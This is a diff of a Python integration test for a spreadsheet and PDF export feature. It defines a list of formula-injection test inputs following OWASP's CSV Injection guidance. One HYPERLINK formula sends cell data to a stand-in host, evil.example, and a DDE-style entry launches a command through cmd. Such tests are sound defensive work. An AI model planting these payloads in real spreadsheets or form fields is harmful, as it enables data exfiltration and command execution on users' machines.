@@ -13,7 +13,6 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from canopy_analytics.exports.cells import FORMULA_STARTS
 from canopy_analytics.exports.renderers import RENDERERS, Renderer
 from canopy_analytics.exports.settings import ExportSettings
 from tests.analytics.exports.conftest import (
@@ -28,8 +27,9 @@ from tests.analytics.exports.conftest import (
 
 pytestmark = pytest.mark.integration
 
-# Each starts with one of OWASP's formula characters (= + - @ tab carriage return).
-HOSTILE = (
+# A cell starting with one of these is read as a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = (  # names chosen by other people, each starting with one of them
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
     "+1+cmd|' /C calc'!A0",
     "-1-2",
